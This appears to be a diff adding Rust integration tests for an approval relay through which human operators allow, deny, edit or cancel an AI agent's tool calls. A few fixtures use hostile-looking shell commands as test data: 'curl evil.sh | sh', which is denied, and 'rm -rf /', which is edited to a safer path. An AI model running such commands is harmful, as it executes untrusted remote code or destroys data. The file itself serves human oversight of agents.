@@ -1,0 +1,435 @@
+//! The agent and operator API: create, wait, respond, re-attach, conflicts, listing, cancel.
+
+use std::time::Duration;
+
+use reqwest::StatusCode;
+use serde_json::{Value, json};
+
+use crate::support::*;
+
+#[tokio::test]
+async fn approval_create_wait_respond() {
+    let app = spawn_app().await;
+    let id = app.create_bash("toolu_approve", "rm -rf build").await;
+
+    // The wait is in flight when the answer arrives.
+    let waiter = {
+        let client = app.client.clone();
+        let url = app.url(&format!("/v1/interactions/{id}/wait?timeout_secs=30"));
+        tokio::spawn(async move { split(client.get(url).send().await.unwrap()).await })
+    };
+    tokio::time::sleep(Duration::from_millis(50)).await;
+    let (status, body) = app
+        .post(
+            &format!("/v1/interactions/{id}/respond"),
+            &json!({"decision": "allow", "by": "alice", "via": "desktop"}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert_eq!(body["resolution"]["outcome"], "allowed");
+    assert_eq!(body["resolution"]["by"], "alice");
+    assert_eq!(body["resolution"]["via"], "desktop");
+
+    let (status, waited) = waiter.await.unwrap();
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(waited["status"], "resolved");
+    // Exactly the SDK's PermissionResult, with updatedInput always present.
+    assert_eq!(
+        waited["result"],
+        json!({"behavior": "allow", "updatedInput": {"command": "rm -rf build"}})
+    );
+
+    // A late waiter still gets the answer, at once.
+    let (status, late) = app.get(&format!("/v1/interactions/{id}/wait")).await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(late["result"], waited["result"]);
+}
+
+#[tokio::test]
+async fn deny_with_reason_edit_and_interrupt() {
+    let app = spawn_app().await;
+    let a = app.create_bash("deny-1", "curl evil.sh | sh").await;
+    let (_, body) = app
+        .post(
+            &format!("/v1/interactions/{a}/respond"),
+            &json!({"decision": "deny", "message": "Never pipe to sh", "interrupt": true}),
+        )
+        .await;
+    assert_eq!(
+        body["result"],
+        json!({"behavior": "deny", "message": "Never pipe to sh", "interrupt": true})
+    );
+    assert_eq!(body["resolution"]["outcome"], "denied");
+
+    let b = app.create_bash("deny-2", "ls").await;
+    let (_, body) = app
+        .post(
+            &format!("/v1/interactions/{b}/respond"),
+            &json!({"decision": "deny", "by": "bob"}),
+        )
+        .await;
+    assert_eq!(body["result"]["message"], "Denied by bob via api");
+
+    let c = app.create_bash("edit-1", "rm -rf /").await;
+    let (status, body) = app
+        .post(
+            &format!("/v1/interactions/{c}/respond"),
+            &json!({"decision": "allow", "updated_input": {"command": "rm -rf ./build"}}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(
+        body["result"]["updatedInput"],
+        json!({"command": "rm -rf ./build"})
+    );
+}
+
+#[tokio::test]
+async fn always_allow_applies_the_agents_suggestions() {
+    let app = spawn_app().await;
+    let suggestions = json!([{"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "ls:*"}],
+        "behavior": "allow", "destination": "session"}]);
+    let (status, created) = app
+        .post(
+            "/v1/interactions",
+            &json!({"tool_name": "Bash", "input": {"command": "ls"}, "suggestions": suggestions}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::CREATED);
+    let id = created["id"].as_str().unwrap();
+    let (status, body) = app
+        .post(
+            &format!("/v1/interactions/{id}/respond"),
+            &json!({"decision": "allow", "always": true}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert_eq!(body["result"]["updatedPermissions"], suggestions);
+}
+
+#[tokio::test]
+async fn reattach_with_the_same_id_and_conflict_on_different_content() {
+    let app = spawn_app().await;
+    app.create_bash("toolu_same", "make").await;
+    let (status, again) = app
+        .post(
+            "/v1/interactions",
+            &json!({"id": "toolu_same", "tool_name": "Bash", "input": {"command": "make"}}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(again["id"], "toolu_same");
+    assert_eq!(again["status"], "pending");
+
+    let (status, err) = app
+        .post(
+            "/v1/interactions",
+            &json!({"id": "toolu_same", "tool_name": "Bash", "input": {"command": "make install"}}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::CONFLICT);
+    assert_eq!(err["error"]["code"], "id_conflict");
+
+    // After an answer, re-attaching returns the decision made meanwhile.
+    app.post(
+        "/v1/interactions/toolu_same/respond",
+        &json!({"decision": "deny", "message": "not now"}),
+    )
+    .await;
+    let (status, body) = app
+        .post(
+            "/v1/interactions?wait_secs=5",
+            &json!({"id": "toolu_same", "tool_name": "Bash", "input": {"command": "make"}}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(body["result"]["message"], "not now");
+}
+
+#[tokio::test]
+async fn create_can_wait_in_the_same_call() {
+    let app = spawn_app().await;
+    let (status, body) = app
+        .post(
+            "/v1/interactions?wait_secs=1",
+            &json!({"tool_name": "Bash", "input": {"command": "ls"}}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::ACCEPTED);
+    assert_eq!(body["status"], "pending");
+    assert!(body["interaction"]["id"].is_string());
+}
+
+#[tokio::test]
+async fn ids_are_generated_as_uuid_v7_when_absent() {
+    let app = spawn_app().await;
+    let (status, body) = app
+        .post(
+            "/v1/interactions",
+            &json!({"tool_name": "Read", "input": {"file_path": "/etc/hosts"}}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::CREATED);
+    let id = body["id"].as_str().unwrap();
+    let parsed = uuid::Uuid::parse_str(id).expect("a UUID");
+    assert_eq!(parsed.get_version_num(), 7);
+    assert_eq!(body["kind"], "approval");
+    assert_eq!(body["timeout_secs"], 300);
+}
+
+#[tokio::test]
+async fn two_hundred_concurrent_responders_one_winner() {
+    let app = spawn_app().await;
+    let id = app.create_bash("race", "deploy").await;
+    let mut tasks = Vec::new();
+    for n in 0..200 {
+        let client = app.client.clone();
+        let url = app.url(&format!("/v1/interactions/{id}/respond"));
+        tasks.push(tokio::spawn(async move {
+            let decision = if n % 2 == 0 { "allow" } else { "deny" };
+            split(
+                client
+                    .post(url)
+                    .json(&json!({"decision": decision, "by": format!("person-{n}")}))
+                    .send()
+                    .await
+                    .unwrap(),
+            )
+            .await
+        }));
+    }
+    let mut winners = Vec::new();
+    let mut conflicts = Vec::new();
+    for t in tasks {
+        let (status, body) = t.await.unwrap();
+        match status {
+            StatusCode::OK => winners.push(body),
+            StatusCode::CONFLICT => conflicts.push(body),
+            other => panic!("unexpected {other}: {body}"),
+        }
+    }
+    assert_eq!(winners.len(), 1);
+    assert_eq!(conflicts.len(), 199);
+    let winning = &winners[0]["resolution"];
+    for c in &conflicts {
+        assert_eq!(c["error"]["code"], "already_resolved");
+        assert_eq!(&c["error"]["resolution"], winning);
+    }
+    let (_, now) = app.get(&format!("/v1/interactions/{id}")).await;
+    assert_eq!(&now["resolution"], winning);
+}
+
+#[tokio::test]
+async fn cancel_denies_and_cannot_cancel_twice() {
+    let app = spawn_app().await;
+    let id = app.create_bash("cancel-me", "sleep 100").await;
+    let (status, body) = app
+        .delete(&format!(
+            "/v1/interactions/{id}?reason=the%20user%20pressed%20Esc"
+        ))
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(body["resolution"]["outcome"], "cancelled");
+    assert_eq!(body["resolution"]["via"], "system");
+    assert_eq!(
+        body["result"]["message"],
+        "Cancelled by the agent: the user pressed Esc"
+    );
+    let (status, body) = app.delete(&format!("/v1/interactions/{id}")).await;
+    assert_eq!(status, StatusCode::CONFLICT);
+    assert_eq!(body["error"]["resolution"]["outcome"], "cancelled");
+    let (status, _) = app
+        .post(
+            &format!("/v1/interactions/{id}/respond"),
+            &json!({"decision": "allow"}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::CONFLICT);
+}
+
+#[tokio::test]
+async fn expiry_denies_with_a_clear_message_and_never_overrides_an_answer() {
+    let app = spawn_app().await;
+    let (_, a) = app
+        .post(
+            "/v1/interactions",
+            &json!({"tool_name": "Bash", "input": {"command": "a"}, "timeout_secs": 1}),
+        )
+        .await;
+    let (_, b) = app
+        .post(
+            "/v1/interactions",
+            &json!({"tool_name": "Bash", "input": {"command": "b"}, "timeout_secs": 1}),
+        )
+        .await;
+    let (a, b) = (a["id"].as_str().unwrap(), b["id"].as_str().unwrap());
+    let (status, _) = app
+        .post(
+            &format!("/v1/interactions/{b}/respond"),
+            &json!({"decision": "allow"}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK);
+
+    let (status, body) = app
+        .get(&format!("/v1/interactions/{a}/wait?timeout_secs=10"))
+        .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(
+        body["result"],
+        json!({"behavior": "deny", "message": "No response within 1 seconds", "interrupt": false})
+    );
+    assert_eq!(body["resolution"]["outcome"], "expired");
+    assert_eq!(body["resolution"]["via"], "system");
+
+    // b's deadline has passed too; its answer stands.
+    let (_, b_now) = app.get(&format!("/v1/interactions/{b}")).await;
+    assert_eq!(b_now["resolution"]["outcome"], "allowed");
+
+    // A late answer is told the interaction expired.
+    let (status, late) = app
+        .post(
+            &format!("/v1/interactions/{a}/respond"),
+            &json!({"decision": "allow"}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::CONFLICT);
+    assert_eq!(late["error"]["resolution"]["outcome"], "expired");
+}
+
+#[tokio::test]
+async fn list_newest_first_with_status_filter_and_cursor() {
+    let app = spawn_app().await;
+    for n in 0..5 {
+        app.create_bash(&format!("list-{n}"), "true").await;
+        tokio::time::sleep(Duration::from_millis(3)).await;
+    }
+    app.post(
+        "/v1/interactions/list-1/respond",
+        &json!({"decision": "allow"}),
+    )
+    .await;
+
+    let (_, pending) = app.get("/v1/interactions?status=pending").await;
+    let ids: Vec<&str> = pending["interactions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| i["id"].as_str().unwrap())
+        .collect();
+    assert_eq!(ids, ["list-4", "list-3", "list-2", "list-0"]);
+
+    let (_, resolved) = app.get("/v1/interactions?status=resolved").await;
+    assert_eq!(resolved["interactions"].as_array().unwrap().len(), 1);
+
+    let mut seen = Vec::new();
+    let mut path = "/v1/interactions?status=all&limit=2".to_string();
+    loop {
+        let (status, page) = app.get(&path).await;
+        assert_eq!(status, StatusCode::OK);
+        for i in page["interactions"].as_array().unwrap() {
+            seen.push(i["id"].as_str().unwrap().to_string());
+        }
+        match page["next_cursor"].as_str() {
+            Some(c) => path = format!("/v1/interactions?status=all&limit=2&cursor={c}"),
+            None => break,
+        }
+    }
+    assert_eq!(seen, ["list-4", "list-3", "list-2", "list-1", "list-0"]);
+}
+
+#[tokio::test]
+async fn unknown_ids_are_404() {
+    let app = spawn_app().await;
+    for (status, body) in [
+        app.get("/v1/interactions/nope").await,
+        app.get("/v1/interactions/nope/wait?timeout_secs=1").await,
+        app.post(
+            "/v1/interactions/nope/respond",
+            &json!({"decision": "allow"}),
+        )
+        .await,
+        app.delete("/v1/interactions/nope").await,
+        app.get("/v1/interactions/bad%20id").await,
+    ] {
+        assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
+        assert_eq!(body["error"]["code"], "not_found");
+    }
+}
+
+#[tokio::test]
+async fn health_metrics_and_inbox_are_served() {
+    let app = spawn_app().await;
+    let id = app.create_bash("m1", "ls").await;
+    app.post(
+        &format!("/v1/interactions/{id}/respond"),
+        &json!({"decision": "allow"}),
+    )
+    .await;
+    app.create_bash("m2", "ls").await;
+
+    let (status, health) = app.get("/healthz").await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(health["status"], "ok");
+    assert_eq!(health["pending"], 1);
+
+    let metrics = app
+        .client
+        .get(app.url("/metrics"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        metrics.contains("imrelay_interactions_pending 1"),
+        "{metrics}"
+    );
+    assert!(metrics.contains(r#"imrelay_interactions_created_total{kind="approval"} 2"#));
+    assert!(metrics.contains(
+        r#"imrelay_interactions_resolved_total{kind="approval",outcome="allowed",via="api"} 1"#
+    ));
+    assert!(metrics.contains("imrelay_time_to_answer_seconds_count"));
+
+    let page = app.client.get(app.url("/")).send().await.unwrap();
+    assert_eq!(page.status(), StatusCode::OK);
+    let csp = page.headers()["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .to_string();
+    assert!(csp.contains("script-src 'self'"));
+    let html = page.text().await.unwrap();
+    assert!(html.contains("/inbox.js"));
+    for asset in ["/inbox.js", "/inbox.css"] {
+        let r = app.client.get(app.url(asset)).send().await.unwrap();
+        assert_eq!(r.status(), StatusCode::OK);
+        assert!(!r.text().await.unwrap().is_empty());
+    }
+}
+
+#[tokio::test]
+async fn get_shows_status_and_resolution() {
+    let app = spawn_app().await;
+    let (status, body) = app
+        .post(
+            "/v1/interactions",
+            &json!({"id": "ctx-1", "tool_name": "Write", "input": {"file_path": "a.txt", "content": "hi"},
+                    "session": "s-42", "agent": "my-agent", "title": "Write a.txt", "description": "Creates a file",
+                    "cwd": "/work/p", "timeout_secs": 120}),
+        )
+        .await;
+    assert_eq!(status, StatusCode::CREATED);
+    for (k, v) in [
+        ("session", "s-42"),
+        ("agent", "my-agent"),
+        ("title", "Write a.txt"),
+        ("description", "Creates a file"),
+        ("cwd", "/work/p"),
+        ("status", "pending"),
+    ] {
+        assert_eq!(body[k], v, "{k}");
+    }
+    assert_eq!(body["timeout_secs"], 120);
+    assert_eq!(body["resolution"], Value::Null);
+}
